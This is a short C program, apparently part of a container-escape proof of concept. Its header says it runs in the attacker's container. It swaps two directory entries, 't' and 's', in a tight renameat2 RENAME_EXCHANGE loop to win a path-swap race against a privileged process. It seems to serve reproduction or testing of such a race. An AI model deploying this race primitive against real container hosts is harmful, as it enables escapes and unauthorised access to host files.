/*
 * exchange DIRECTORY MILLISECONDS: exchanges the entries `t` and `s` of DIRECTORY again and again, as long as said, and
 * prints how often. It runs in the container of the attacker.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static long milliseconds(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

int main(int count, char **words)
{
    if (count != 3) {
        fprintf(stderr, "usage: exchange DIRECTORY MILLISECONDS\n");
        return 2;
    }
    int directory = open(words[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (directory < 0) {
        fprintf(stderr, "exchange: %s: %s\n", words[1], strerror(errno));
        return 2;
    }
    long done = 0;
    const long end = milliseconds() + atol(words[2]);
    while (milliseconds() < end) {
        for (int each = 0; each < 1000; each++)
            done += renameat2(directory, "t", directory, "s", RENAME_EXCHANGE) == 0;
    }
    printf("exchanged %ld\n", done);
    return 0;
}
